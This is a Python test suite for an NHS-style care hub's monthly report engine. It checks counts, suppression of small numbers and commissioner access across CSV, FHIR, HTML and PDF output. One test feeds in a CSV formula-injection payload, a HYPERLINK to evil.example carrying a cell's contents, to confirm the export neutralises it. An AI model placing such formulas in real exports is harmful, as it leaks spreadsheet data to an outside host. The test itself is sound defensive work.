"""The hand-worked example of docs/report-method.md gives exactly its documented counts in
every format, on SQLite and PostgreSQL; commissioners see only their own area; care-home
users cannot open reports."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from aiohttp.test_utils import TestClient, TestServer
from sqlmodel import col, select

from hub.app import create_app
from hub.clock import FakeClock, as_utc
from hub.errors import Forbidden
from hub.reports.engine import ReportService
from hub.reports.render_csv import render_csv
from hub.reports.render_fhir import measure_report
from hub.reports.render_html import render_document
from hub.reports.render_pdf import render_pdf
from hub.reports.render_tables import render_tables
from hub.settings import HubSettings
from hub.storage.engine import Database
from hub.storage.scope import SYSTEM, Scope
from hub.storage.tables import Call, CallEvent, CallQualityReport, Escalation, FollowUpTask
from schemas.codes import Role
from schemas.imports import ImportKind
from schemas.reports import MonthlyReport, MonthlyReportQuery
from support.calls import call_in_wrap_up
from support.reports import (
    ANSWER,
    AVOIDED,
    BED_DAYS,
    CALLS_TOTAL,
    CONNECTION,
    LIVE_CALL,
    MONEY,
    MONEY_GP_CLAIMED,
    MONEY_TOTAL,
    MONEY_WITH_CLAIMED,
    MONTH,
    NOT_RECORDED,
    SITE_AVOIDED,
    SITE_CALLS,
    TECHNICAL_FAILURES,
    load_worked_example,
    read_tables,
    run_import,
)
from support.world import NOW, World, sign_in

MEASURES = ("ambulance", "ed_attendance", "admission", "gp_contact")
FIELDS = ("claimed", "confirmed", "unverified", "refuted")


async def _report(
    db: Database, scope: Scope = SYSTEM, *, suppress: bool = False, **query: str
) -> MonthlyReport:
    """The report, by default as for a commissioner with a data-sharing agreement (small
    numbers shown), so the hand-worked counts can be read; ``suppress`` as by default."""
    settings = HubSettings(environment="test", report_suppress_small_numbers=suppress)
    service = ReportService(db, FakeClock(NOW), settings)
    return await service.monthly(scope, MonthlyReportQuery(month=MONTH, **query))


@pytest.fixture
async def worked(db: Database, world: World) -> MonthlyReport:
    await load_worked_example(db)
    return await _report(db, commissioner="QAA")


def _avoided(data: dict) -> dict:  # type: ignore[type-arg]
    return {m: data[m] for m in MEASURES}


async def test_the_worked_example_gives_the_documented_counts(worked: MonthlyReport) -> None:
    data = worked.model_dump(mode="json")
    assert data["month"] == "2026-10" and data["commissioner"] == "QAA"
    assert data["totals"]["calls"] == CALLS_TOTAL
    assert data["totals"]["not_recorded"] == NOT_RECORDED
    assert data["connection"]["technical_failures"] == TECHNICAL_FAILURES
    assert _avoided(data["totals"]["avoided"]) == AVOIDED
    assert data["totals"]["bed_days_avoided"] == BED_DAYS
    by_site = {s["ods"]: s for s in data["sites"]}
    assert set(by_site) == set(SITE_CALLS)  # home B (commissioner B) is not in A's report
    for ods, calls in SITE_CALLS.items():
        assert by_site[ods]["calls"] == calls, ods
        assert _avoided(by_site[ods]["avoided"]) == SITE_AVOIDED[ods], ods
    money = {row["measure"]: row["amount_gbp"] for row in data["money"]["rows"]}
    assert money == MONEY | {"gp_contact": MONEY_GP_CLAIMED}
    basis = {row["measure"]: (row["basis"], row["costed"]) for row in data["money"]["rows"]}
    assert basis["gp_contact"] == ("claimed", 3) and basis["admission"] == ("confirmed", 3)
    assert data["money"]["total_gbp"] == MONEY_TOTAL
    assert data["money"]["claimed_basis_gbp"] == MONEY_GP_CLAIMED
    assert data["money"]["total_with_claimed_gbp"] == MONEY_WITH_CLAIMED
    assert data["comparison"]["year_to_date"]["claimed_basis_gbp"] == "273.20"  # 4 × £68.30
    assert "England default unit costs" in data["money"]["cost_table"]
    answer = data["answer_times"]
    assert (answer["answered"], answer["median_seconds"], answer["p90_seconds"]) == (
        ANSWER["answered"],
        ANSWER["median"],
        ANSWER["p90"],
    )
    assert answer["within_target"] == ANSWER["within"] and answer["share_within_target"] == 0.8125


async def test_calls_belong_to_their_london_month_across_the_clock_change(
    worked: MonthlyReport,
) -> None:
    # C01 (30 Sep 23:30 UTC = 1 Oct 00:30 BST) and C16 (31 Oct 23:30 UTC = GMT) are October;
    # C19 (30 Sep 22:59 UTC = 23:59 BST) is September; C18 (1 Nov 00:30 UTC) is November.
    hours = worked.calls.by_hour
    assert sum(hours) == CALLS_TOTAL
    assert hours[0] == 1  # C01 at 00:30 BST
    assert hours[1] == 2  # C12 01:30 BST and C13 01:30 GMT on 25 October
    assert hours[23] == 1  # C16
    assert worked.comparison.last_month.calls == 1  # C19
    assert worked.comparison.year_to_date.calls == CALLS_TOTAL + 1
    assert worked.comparison.year_to_date.avoided.gp_contact.claimed == 4


async def test_breakdowns_rates_and_the_hospital_comparison(worked: MonthlyReport) -> None:
    counts = {c.code: c.count for c in worked.dispositions}
    assert counts["managed_in_place"] == 7 and counts["not_recorded"] == 1
    assert sum(counts.values()) == CALLS_TOTAL
    escalations = {c.code: c.count for c in worked.escalations}
    assert escalations == {
        "specialist_joined": 2,
        "specialist_callback": 1,
        "hub_doctor": 1,
        "gp_contacted": 1,
        "ambulance_requested": 1,
        "safeguarding_raised": 0,
    }
    assert worked.specialists.calls_with_specialist == 2
    assert worked.specialists.timed_joins == 0  # imported calls carry no times
    kinds = {k.code.value: k for k in worked.calls.by_site_kind}
    assert (kinds["care_home_nursing"].calls, kinds["care_home_nursing"].beds) == (12, 40)
    assert kinds["care_home_residential"].calls_per_10_beds == 2.0
    assert {c.code: c.count for c in worked.calls.by_channel}["gold_line"] == 1
    rates = worked.rates
    assert (rates.beds, rates.care_home_calls, rates.residents) == (60, 16, 56)
    assert rates.avoided_admissions_per_1000_resident_years == pytest.approx(2 / (56 / 12) * 1000)
    assert rates.avoided_ed_attendances_per_1000_resident_years == pytest.approx(3000 / (56 / 12))
    hospital = worked.hospital_activity
    assert hospital is not None and hospital.comparison_homes == ["VCMP1"]
    home_a = next(h for h in hospital.homes if h.ods == "VHOMA")
    ed = home_a.ed_attendances
    assert ed.service.change.ratio == pytest.approx(0.6)
    assert ed.comparison is not None and ed.comparison.change.ratio == pytest.approx(0.8)
    assert ed.difference_in_differences is not None
    assert ed.difference_in_differences.ratio == pytest.approx(0.75)
    assert "fell by 40%" in ed.summary and "comparison homes they fell by 20%" in ed.summary
    assert hospital.area_ed_attendances is not None
    area_ratio = hospital.area_ed_attendances.service.change.ratio
    assert area_ratio == pytest.approx((20 / 11) / (30 / 9.5))
    assert worked.engagement_watch == []


async def test_every_format_shows_the_same_counts(worked: MonthlyReport, tmp_path: Path) -> None:
    # CSV: one figure per row.
    rows = list(csv.DictReader(io.StringIO(render_csv(worked))))
    figures = {(r["section"], r["site_ods"], r["item"]): r["value"] for r in rows}
    for measure, counts in AVOIDED.items():
        for name, value in counts.items():
            assert figures[("totals", "", f"avoided.{measure}.{name}")] == str(value)
    for ods, per_site in SITE_AVOIDED.items():
        assert figures[("sites", ods, "calls")] == str(SITE_CALLS[ods])
        assert figures[("sites", ods, "avoided.admission.confirmed")] == str(
            per_site["admission"]["confirmed"]
        )
    assert figures[("money", "", "total_gbp")] == MONEY_TOTAL
    assert figures[("money", "", "claimed_basis_gbp")] == MONEY_GP_CLAIMED

    # CSV tables: one per section, a row per home (per month for the trend), measures as
    # columns (issue 17 item 14).
    tables = read_tables(render_tables(worked))
    sites = {r["site_ods"]: r for r in tables["sites"]}
    assert set(sites) == {*SITE_CALLS, ""}  # every home, and the area's "All sites" row
    for ods, per_site in SITE_AVOIDED.items():
        assert sites[ods]["calls"] == str(SITE_CALLS[ods])
        for measure, counts in per_site.items():
            for name, value in counts.items():
                assert sites[ods][f"{measure}_{name}"] == str(value), (ods, measure, name)
    area = sites[""]
    assert area["site_name"] == "All sites" and area["calls"] == str(CALLS_TOTAL)
    assert area["admission_confirmed"] == "3" and area["bed_days_avoided"] == BED_DAYS
    assert sites["VHOMA"]["month"] == "2026-10" and sites["VHOMA"]["beds"] == "40"
    trend = [r for r in tables["trend"] if r["site_ods"] == "VHOMA"]
    assert len(trend) == 22  # January 2025 (go-live) to October 2026
    assert {r["month"]: r["calls"] for r in trend}["2026-10"] == "12.0"
    (calls,) = tables["calls"]
    assert (calls["calls"], calls["clinical"], calls["median_answer_seconds"]) == (
        "17",
        "16",
        "110.0",
    )
    assert tables["dispositions"][0]["managed_in_place"] == "7"
    assert tables["by_hour"][0]["h01"] == "2"
    assert tables["money"][0]["total_confirmed_gbp"] == MONEY_TOTAL
    assert tables["money"][0]["gp_contact_gbp"] == MONEY_GP_CLAIMED
    assert [p["calls"] for p in tables["periods"]] == ["17", "1", "18"]
    ed_a = next(
        r
        for r in tables["hospital_activity"]
        if (r["site_ods"], r["measure"]) == ("VHOMA", "ed_attendances")
    )
    assert (ed_a["events_before"], ed_a["events_after"]) == ("30", "18")
    assert float(ed_a["rate_ratio"]) == pytest.approx(0.6)

    # FHIR MeasureReport (R4 shape), validated by fhir.resources.
    fhir = json.loads(measure_report(worked, base_url="https://hub.example/").model_dump_json())
    assert fhir["resourceType"] == "MeasureReport" and fhir["type"] == "summary"
    assert fhir["period"] == {"start": "2026-10-01", "end": "2026-10-31"}
    groups = {g["code"]["coding"][0]["code"]: g for g in fhir["group"]}
    for measure, counts in AVOIDED.items():
        found = {p["code"]["coding"][0]["code"]: p["count"] for p in groups[measure]["population"]}
        assert found["numerator"] == counts["claimed"]
        assert found["initial-population"] == CALLS_TOTAL - NOT_RECORDED
        for name in ("confirmed", "unverified", "refuted"):
            if name in counts:
                assert found[name] == counts[name]
    assert groups["calls"]["population"][0]["count"] == CALLS_TOTAL
    sites = {
        s["value"]["coding"][0]["code"]: s for s in groups["admission"]["stratifier"][1]["stratum"]
    }
    numerator = {p["code"]["coding"][0]["code"]: p["count"] for p in sites["VHOMA"]["population"]}[
        "numerator"
    ]
    assert numerator == SITE_AVOIDED["VHOMA"]["admission"]["claimed"]

    # HTML document and PDF text.
    html = render_document(worked)
    assert '<tr class="nhsuk-table__row" data-measure="admission">' in html
    assert '<td class="nhsuk-table__cell">5</td><td class="nhsuk-table__cell">3</td>' in html
    assert "£22,502.70" in html and "<svg" in html
    assert "3 claimed" in html and "£204.90" in html and "£22,707.60" in html
    pdf = tmp_path / "report.pdf"
    pdf.write_bytes(render_pdf(worked))
    text = _pdf_text(pdf)
    assert "Commissioner A: October 2026" in text
    assert "£22,502.70" in text and "23.7" in text
    assert "£204.90" in text and "£22,707.60" in text
    assert "3 of 5 claimed" in text  # admissions confirmed of claimed
    _assert_page_one_is_not_blank(pdf)


def _pdf_text(pdf: Path) -> str:
    assert shutil.which("pdftotext"), "poppler-utils is needed (make test installs it)"
    done = subprocess.run(
        ["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True
    )
    return done.stdout


def _assert_page_one_is_not_blank(pdf: Path) -> None:
    assert shutil.which("pdftoppm"), "poppler-utils is needed (make test installs it)"
    subprocess.run(
        ["pdftoppm", "-r", "40", "-gray", "-f", "1", "-l", "1", str(pdf), str(pdf.with_suffix(""))],
        check=True,
    )
    image = next(pdf.parent.glob("report-*.pgm"))
    data = image.read_bytes()
    # A binary PGM: header "P5\n<w> <h>\n255\n" then one byte per pixel.
    header_end = data.index(b"\n255\n") + 5
    pixels = data[header_end:]
    dark = sum(1 for b in pixels if b < 128)
    assert len(pixels) > 10_000
    assert dark > len(pixels) * 0.01, "page 1 is blank"
    assert dark < len(pixels) * 0.6, "page 1 is mostly black"


async def test_a_site_report_covers_that_site_only(db: Database, world: World) -> None:
    await load_worked_example(db)
    report = await _report(db, site="VRES1")
    assert report.site == "VRES1" and report.commissioner == "QAA"
    assert [s.ods for s in report.sites] == ["VRES1"]
    assert report.totals.calls == 4
    assert report.totals.avoided.admission.unverified == 1


async def test_commissioners_see_only_their_area_and_homes_see_none(
    db: Database, world: World
) -> None:
    await load_worked_example(db)
    own = Scope(
        role=Role.COMMISSIONER,
        organisation_id=world.commissioner_a.id or 0,
        user_id=world.commissioner_user_a.id,
    )
    assert (await _report(db, own)).commissioner == "QAA"  # their own area by default
    with pytest.raises(Forbidden):
        await _report(db, own, commissioner="QBB")
    with pytest.raises(Forbidden):
        await _report(db, own, site="VHOMB")
    home = Scope(role=Role.CARE_HOME_STAFF, organisation_id=world.home_a.site.id or 0)
    with pytest.raises(Forbidden):
        await _report(db, home, commissioner="QAA")


async def test_the_api_serves_each_format_to_those_allowed(
    client: TestClient, db: Database, world: World
) -> None:
    await load_worked_example(db)
    await sign_in(client, world.commissioner_user_a.username)
    url = f"/api/reports/monthly?month={MONTH}&commissioner=QAA"
    response = await client.get(url)
    assert response.status == 200, await response.text()
    body = await response.json()
    assert body["totals"]["calls"] == CALLS_TOTAL
    assert body["sites"][0].keys() >= {"ods", "site_kind", "calls", "avoided"}
    # A commissioner's report has small numbers suppressed by default (method §6).
    assert body["disclosure"]["suppressed"] is True
    assert body["totals"]["avoided"]["admission"] == dict.fromkeys(FIELDS, "<8")
    for fmt, media in (
        ("csv", "text/csv"),
        ("csv-long", "text/csv"),
        ("fhir", "application/fhir+json"),
    ):
        got = await client.get(f"{url}&format={fmt}")
        assert got.status == 200 and got.content_type == media
        assert "attachment" in got.headers["Content-Disposition"]
    assert (await client.get(f"/api/reports/monthly?month={MONTH}&commissioner=QBB")).status == 403
    assert (await client.get("/api/reports/monthly?month=2026-13")).status == 422
    page = await client.get(f"/reports?month={MONTH}")
    assert page.status == 200
    assert "Commissioner A: October 2026" in await page.text()
    assert (await client.get(f"/reports?month={MONTH}&commissioner=QBB")).status == 403


async def test_care_home_staff_cannot_open_reports(client: TestClient, world: World) -> None:
    await sign_in(client, world.home_a.staff.username)
    for path in (f"/api/reports/monthly?month={MONTH}&commissioner=QAA", "/reports"):
        assert (await client.get(path)).status == 403


async def test_hub_staff_can_open_any_area_and_a_pdf(
    client: TestClient, db: Database, world: World
) -> None:
    await load_worked_example(db)
    await sign_in(client, world.nurse.username)
    got = await client.get(f"/api/reports/monthly?month={MONTH}&commissioner=QBB")
    assert got.status == 200
    assert (await got.json())["totals"]["calls"] == "<8"  # home B's one call (C20), suppressed
    pdf = await client.get(f"/api/reports/monthly?month={MONTH}&commissioner=QAA&format=pdf")
    assert pdf.status == 200 and (await pdf.read()).startswith(b"%PDF")


def test_money_is_exact() -> None:
    assert Decimal(MONEY_TOTAL) == sum(Decimal(v) for v in MONEY.values())


async def test_a_formula_in_an_imported_name_is_text_in_the_csv(
    db: Database, world: World, tmp_path: Path
) -> None:
    """A site imported as =HYPERLINK(...) reaches the CSV as text, never as a formula."""
    await load_worked_example(db)
    sites = tmp_path / "sites.csv"
    name = '=HYPERLINK("https://evil.example/?x="&A1,"Open")'
    sites.write_text(
        "site_ods,name,site_kind,beds,commissioner_ods,go_live\n"
        f'VEVL1,"{name.replace(chr(34), chr(34) * 2)}",care_home_residential,10,QAA,2026-06-01\n'
    )
    summary = await run_import(db, ImportKind.SITES, sites)
    assert summary.written, summary.errors
    report = await _report(db, commissioner="QAA")
    rows = list(csv.DictReader(io.StringIO(render_csv(report))))
    names = {
        r["site_ods"]: r["value"] for r in rows if r["section"] == "sites" and r["item"] == "name"
    }
    assert names["VEVL1"] == "'" + name
    tables = read_tables(render_tables(report))
    assert {r["site_ods"]: r["site_name"] for r in tables["sites"]}["VEVL1"] == "'" + name
    starts = ("=", "+", "-", "@", "\t", "\r")
    cells = [v for r in rows for v in r.values()]
    assert not [
        v for v in cells if v.startswith(starts) and not v.lstrip("-").replace(".", "").isdigit()
    ]


def _tallies(value: object) -> list[object]:
    """Every value in the report JSON held under a count's key."""
    found: list[object] = []
    if isinstance(value, dict):
        for key, inner in value.items():
            if key in COUNT_KEYS and not isinstance(inner, dict | list):
                found.append(inner)
            elif key in ("by_hour", "by_weekday"):
                found += inner
            else:
                found += _tallies(inner)
    elif isinstance(value, list):
        for inner in value:
            found += _tallies(inner)
    return found


COUNT_KEYS = {*FIELDS, "calls", "not_recorded", "count", "total", "clinical", "no_outcome"}
COUNT_KEYS |= {"answered", "not_answered", "within_target", "joined", "callbacks", "costed"}
COUNT_KEYS |= {"calls_with_specialist", "care_home_calls", "residents", "confirmed"}
COUNT_KEYS |= {"events_before", "events_after"}


async def test_small_numbers_are_suppressed_in_every_format(
    db: Database, world: World, tmp_path: Path
) -> None:
    """The worked example with suppression on (method §6 gives every figure by hand)."""
    await load_worked_example(db)
    report = await _report(db, commissioner="QAA", suppress=True)
    data = report.model_dump(mode="json")
    assert data["disclosure"]["suppressed"] is True
    # No count of 1 to 7 is left anywhere.
    assert [v for v in _tallies(data) if isinstance(v, int) and 1 <= v <= 7] == []

    # Primary: 1 to 7 is "<8"; 0 and 8 or more are shown.
    assert (data["totals"]["calls"], data["totals"]["not_recorded"]) == (17, "<8")
    for measure in MEASURES[:3]:
        assert data["totals"]["avoided"][measure] == dict.fromkeys(FIELDS, "<8")
    sites = {s["ods"]: s for s in data["sites"]}
    assert (sites["VRES1"]["calls"], sites["VOWN1"]["calls"], sites["VCMP1"]["calls"]) == (
        "<8",
        "<8",
        0,
    )
    # Secondary: 17 calls = 16 clinical + 1 technical + 0 with no outcome, so the 16 is
    # withheld; 16 care-home calls = home A 12 + VRES1 4, so home A's 12 is withheld (and
    # with it the nursing homes' 12 and both rates per 10 beds); 17 = care_home 16 +
    # gold line 1; 17 = 16 answered + 1 not; the year to date 18 = 17 + September's 1.
    assert (data["calls"]["clinical"], data["calls"]["not_recorded"]) == ("*", "<8")
    assert sites["VHOMA"]["calls"] == "*" and sites["VHOMA"]["calls_per_10_beds"] is None
    kinds = {k["code"]: k["calls"] for k in data["calls"]["by_site_kind"]}
    assert kinds == {
        "care_home_nursing": "*",
        "care_home_residential": "<8",
        "own_home": "<8",
        "prison": 0,
    }
    assert data["rates"]["care_home_calls"] == 16  # both parts are withheld
    channels = {c["code"]: c["count"] for c in data["calls"]["by_channel"]}
    assert (channels["care_home"], channels["gold_line"]) == ("*", "<8")
    answer = data["answer_times"]
    assert (answer["answered"], answer["not_answered"]) == ("*", "<8")
    assert answer["median_seconds"] == 110 and answer["share_within_target"] is None
    assert data["comparison"]["year_to_date"]["calls"] == "*"
    assert data["comparison"]["last_month"]["calls"] == "<8"
    # Figures worked out from a withheld count are not shown.
    assert data["money"]["total_gbp"] is None and data["totals"]["bed_days_avoided"] is None
    assert all(row["amount_gbp"] is None for row in data["money"]["rows"])
    assert data["rates"]["avoided_admissions_per_1000_resident_years"] is None
    assert data["spc_calls"] is None and sites["VHOMA"]["spc_calls"] is None
    home_a = next(h for h in data["hospital_activity"]["homes"] if h["ods"] == "VHOMA")
    # The area's 20 A&E attendances after = home A 18 + VRES1 2, so home A's 18 is withheld.
    assert home_a["ed_attendances"]["service"]["events_after"] == "*"
    assert home_a["ed_attendances"]["service"]["change"]["ratio"] is None
    assert home_a["ed_attendances"]["service"]["events_before"] == 30

    rows = list(csv.DictReader(io.StringIO(render_csv(report))))
    figures = {(r["section"], r["site_ods"], r["item"]): r["value"] for r in rows}
    assert figures[("sites", "VRES1", "calls")] == "<8"
    assert figures[("sites", "VHOMA", "calls")] == "*"
    assert figures[("totals", "", "avoided.admission.confirmed")] == "<8"
    assert figures[("disclosure", "", "suppressed")] == "True"
    tables = read_tables(render_tables(report))
    assert {r["site_ods"]: r["calls"] for r in tables["sites"]}["VRES1"] == "<8"
    assert tables["money"][0]["total_confirmed_gbp"] == ""
    assert tables["disclosure"][0]["suppressed"] == "True"

    html = render_document(report)
    assert "&lt;8" in html and "£22,502.70" not in html and "data sharing" not in html
    text = _pdf_text_of(report, tmp_path)
    assert "<8" in text and "£22,502.70" not in text and "Counts of 1 to 7" in text

    fhir = json.loads(measure_report(report, base_url="https://hub.example/").model_dump_json())
    groups = {g["code"]["coding"][0]["code"]: g for g in fhir["group"]}
    numerator = next(
        p
        for p in groups["admission"]["population"]
        if p["code"]["coding"][0]["code"] == "numerator"
    )
    assert "count" not in numerator
    assert numerator["extension"][0]["valueCode"] == "masked"
    assert groups["calls"]["population"][0]["count"] == 17


async def test_the_setting_turns_suppression_off_and_the_report_says_so(
    db: Database, world: World
) -> None:
    await load_worked_example(db)
    report = await _report(db, commissioner="QAA", suppress=False)
    assert report.disclosure.suppressed is False
    assert "data-sharing agreement" in report.disclosure.rule
    assert report.totals.avoided.admission.claimed == 5
    assert "data-sharing agreement" in render_document(report)


def _pdf_text_of(report: MonthlyReport, tmp_path: Path) -> str:
    pdf = tmp_path / "suppressed.pdf"
    pdf.write_bytes(render_pdf(report))
    return _pdf_text(pdf)


def _falling_calls(path: Path) -> Path:
    """Home A (live since January 2025): 11 and 13 calls a month, alternately, to March
    2026, then 7 and 9 from April: seven months below the mean by October, a shift."""
    head = (
        "call_id,site_ods,site_kind,channel,started_at,answered_at,ended_at,nhs_number,reason,"
        "home_intent,nurse_counterfactual,disposition,escalations,ed_within_72h,"
        "admitted_within_72h\n"
    )
    lines = []
    span = [f"2025-{m:02d}" for m in range(1, 13)] + [f"2026-{m:02d}" for m in range(1, 11)]
    for i, month in enumerate(span):
        calls = (11, 13)[i % 2] if month < "2026-04" else (7, 9)[i % 2]
        for n in range(calls):
            lines.append(
                f"W{month}-{n},VHOMA,care_home_nursing,care_home,{month}-10T10:{n:02d}:00+00:00,"
                ",,,fall_no_injury,wait_and_see,no_nhs_contact,managed_in_place,,unknown,unknown"
            )
    path.write_text(head + "\n".join(lines) + "\n")
    return path


async def test_the_engagement_watch_reaches_the_report_first_page_and_the_hub_manager(
    settings: HubSettings, db: Database, world: World, tmp_path: Path
) -> None:
    summary = await run_import(db, ImportKind.CALLS, _falling_calls(tmp_path / "calls.csv"))
    assert summary.written, summary.errors
    report = await _report(db, commissioner="QAA")
    assert [(w.ods, w.since) for w in report.engagement_watch_homes] == [("VHOMA", "2026-04")]
    home_a = next(s for s in report.sites if s.ods == "VHOMA")
    assert home_a.engagement_watch and home_a.engagement_watch_since == "2026-04"

    html = render_document(report)
    first = html.index('id="engagement-watch-first"')
    assert first < html.index(">Summary</h2>")
    assert "calls have fallen beyond normal variation since April 2026" in html[first:]
    pdf = tmp_path / "watch.pdf"
    pdf.write_bytes(render_pdf(report))
    page_one = _pdf_text(pdf).split("\f")[0]
    assert "Engagement watch" in page_one and "since April 2026" in page_one

    async with TestClient(TestServer(create_app(settings, clock=FakeClock(NOW)))) as client:
        await sign_in(client, world.admin.username)  # 2 November: October is the last full month
        page = await client.get("/admin/shift")
        assert page.status == 200
        text = await page.text()
    assert "Engagement watch, October 2026" in text
    row = text[text.index('data-ods="VHOMA"') :]
    assert "Home A" in row[:300] and "April 2026" in row[:300]


async def test_connection_quality_is_counted_apart_from_the_clinical_outcome(
    db: Database, world: World, tmp_path: Path
) -> None:
    """Method §7, connection quality: C04 and C05 (home A) each lost a connection that was
    not resumed (C04 twice); C04's tablet reported 5 minutes of video and 2 by audio alone;
    C05's tablet reported that the call ended by failure (the nurse finished it by phone:
    specialist advice); C11 was imported as call_failed_technical. Every clinical figure
    stands as recorded; every format gives the same connection figures."""
    await load_worked_example(db)
    async with db.session() as s:
        ids = {
            c.external_id: c
            for c in (await s.exec(select(Call).where(col(Call.external_id).in_(("C04", "C05")))))
        }
        for external, times in (("C04", 2), ("C05", 1)):
            call = ids[external]
            for _ in range(times):
                s.add(
                    CallEvent(
                        call_id=call.id,
                        at=as_utc(call.started_at) + timedelta(minutes=3),
                        kind="participant_dropped",
                        detail={"role": "caller"},
                    )
                )
        for external, video, audio, failed in (("C04", 300, 120, False), ("C05", 90, 0, True)):
            s.add(
                CallQualityReport(
                    call_id=ids[external].id,
                    reporter="device:1",
                    video_seconds=video,
                    audio_only_seconds=audio,
                    ended_by_failure=failed,
                    reported_at=as_utc(ids[external].started_at) + timedelta(minutes=9),
                )
            )
    report = await _report(db, commissioner="QAA")
    for q, calls in ((next(s for s in report.sites if s.ods == "VHOMA").connection, 12),
                     (report.connection, CALLS_TOTAL)):  # fmt: skip
        got = (q.calls, q.calls_with_drop, q.technical_failures, q.calls_reported)
        assert got == (calls, *CONNECTION["counts"])
        assert (q.calls_audio_only, q.video_minutes, q.audio_only_minutes) == (1, 6.5, 2.0)
        assert q.share_with_drop == pytest.approx(2 / calls)
        assert q.share_audio_only == pytest.approx(CONNECTION["share_audio_only"])
    assert report.calls.not_recorded == NOT_RECORDED  # C11 only: C05 is clinical
    dispositions = {c.code: c.count for c in report.dispositions}
    assert dispositions["gp_followup"] == 2 and dispositions["specialist_advice"] == 1
    assert report.totals.avoided.ambulance.model_dump() == AVOIDED["ambulance"]

    html = render_document(report)
    row = html[html.index('data-connection="VHOMA"') :]
    assert all(cell in row[:600] for cell in ("16.7%", ">2<", "23.5%"))
    pdf = tmp_path / "connection.pdf"
    pdf.write_bytes(render_pdf(report))
    text = _pdf_text(pdf)
    assert "Connection quality" in text and "16.7%" in text and "23.5%" in text
    tables = read_tables(render_tables(report))
    by_site = {r["site_ods"]: r for r in tables["connection"]}
    columns = ("calls_with_drop", "technical_failures", "calls_audio_only", "audio_only_minutes")
    for ods in ("VHOMA", ""):
        assert tuple(by_site[ods][k] for k in columns) == ("2", "2", "1", "2.0"), ods
    figures = {
        (r["section"], r["site_ods"], r["item"]): r["value"]
        for r in csv.DictReader(io.StringIO(render_csv(report)))
    }
    assert figures[("connection", "", "technical_failures")] == "2"
    assert figures[("sites", "VHOMA", "connection.calls_with_drop")] == "2"
    fhir = json.loads(measure_report(report, base_url="https://hub.example/").model_dump_json())
    group = next(g for g in fhir["group"] if g["code"]["coding"][0]["code"] == "connection")
    found = {p["code"]["coding"][0]["code"]: p["count"] for p in group["population"]}
    assert found == {"initial-population": CALLS_TOTAL, "dropped": 2, "ended-by-failure": 2,
                     "audio-only": 1}  # fmt: skip

    suppressed = await _report(db, commissioner="QAA", suppress=True)
    q = suppressed.connection
    assert (q.calls_with_drop, q.technical_failures, q.calls_audio_only) == ("<8",) * 3
    assert q.share_with_drop is None and q.share_audio_only is None


async def test_a_live_call_added_to_the_worked_example_confirms_nothing_early_and_joins_once(
    settings: HubSettings, db: Database, world: World, tmp_path: Path
) -> None:
    """Method §7, C21: a live call at home A on 21 October, ambulance_999 / admission /
    managed_in_place; a specialist joined (the hub's record, as ``participants.join`` writes
    it) and the nurse's wrap-up lists the join again; a follow-up tried 5 minutes after the
    call ended is refused. Its three claims stay unverified and the join counts once, in
    every format; the confirmed counts and the money are the example's own."""
    await load_worked_example(db)
    started = as_utc(datetime(2026, 10, 21, 10, 0, tzinfo=UTC))
    call_id = await call_in_wrap_up(db, world, started=started)
    async with db.session() as s:
        s.add(Escalation(call_id=call_id, code="specialist_joined", at=started
                         + timedelta(seconds=180), recorded_by=world.specialist.id))  # fmt: skip
    clock = FakeClock(started + timedelta(minutes=12))
    async with TestClient(TestServer(create_app(settings, clock=clock))) as client:
        await sign_in(client, world.nurse.username)
        closed = await client.post(
            f"/api/calls/{call_id}/outcome",
            json={
                "disposition": "managed_in_place",
                "nurse_counterfactual": "admission",
                "escalations": ["specialist_joined", "gp_contacted"],
                "clinical_note": "Specialist joined on video; plan agreed with the home.",
            },
        )
        assert closed.status == 201, await closed.text()
        clock.advance(timedelta(minutes=2))  # 5 minutes after the call ended
        async with db.session() as s:
            task = (await s.exec(select(FollowUpTask).where(FollowUpTask.call_id == call_id))).one()
        early = await client.post(
            f"/api/follow-ups/{task.id}",
            json={"ed_within_72h": "no", "admitted_within_72h": "no", "method": "callback"},
        )
        assert early.status == 409

    report = await _report(db, commissioner="QAA")
    live = LIVE_CALL
    assert report.totals.calls == CALLS_TOTAL + 1
    assert _avoided(report.totals.avoided.model_dump()) == live["avoided"]
    assert report.money.total_gbp == Decimal(MONEY_TOTAL)  # nothing new is confirmed
    assert report.money.claimed_basis_gbp == Decimal(MONEY_GP_CLAIMED)
    escalations = {c.code: c.count for c in report.escalations}
    assert (escalations["specialist_joined"], escalations["gp_contacted"]) == (3, 2)
    specialists = report.specialists
    assert (specialists.calls_with_specialist, specialists.joined) == (3, 3)
    assert specialists.timed_joins == 1  # C21 only: imported calls carry no times
    assert specialists.median_minutes_to_join == pytest.approx(85 / 60)  # answered +95 s

    tables = read_tables(render_tables(report))
    home_a = {r["site_ods"]: r for r in tables["sites"]}["VHOMA"]
    assert (home_a["calls"], home_a["admission_claimed"], home_a["admission_unverified"]) == (
        "13",
        "4",
        "1",
    )
    assert tables["escalations"][0]["specialist_joined"] == "3"
    figures = {
        (r["section"], r["site_ods"], r["item"]): r["value"]
        for r in csv.DictReader(io.StringIO(render_csv(report)))
    }
    for measure, counts in live["avoided"].items():
        for name, value in counts.items():
            assert figures[("totals", "", f"avoided.{measure}.{name}")] == str(value)
    fhir = json.loads(measure_report(report, base_url="https://hub.example/").model_dump_json())
    groups = {g["code"]["coding"][0]["code"]: g for g in fhir["group"]}
    found = {p["code"]["coding"][0]["code"]: p["count"] for p in groups["admission"]["population"]}
    assert (found["numerator"], found["confirmed"], found["unverified"]) == (6, 3, 2)
    html = render_document(report)
    assert '<td class="nhsuk-table__cell">6</td><td class="nhsuk-table__cell">3</td>' in html
    pdf = tmp_path / "live.pdf"
    pdf.write_bytes(render_pdf(report))
    text = _pdf_text(pdf)
    assert "3 of 6 claimed" in text and "£22,502.70" in text
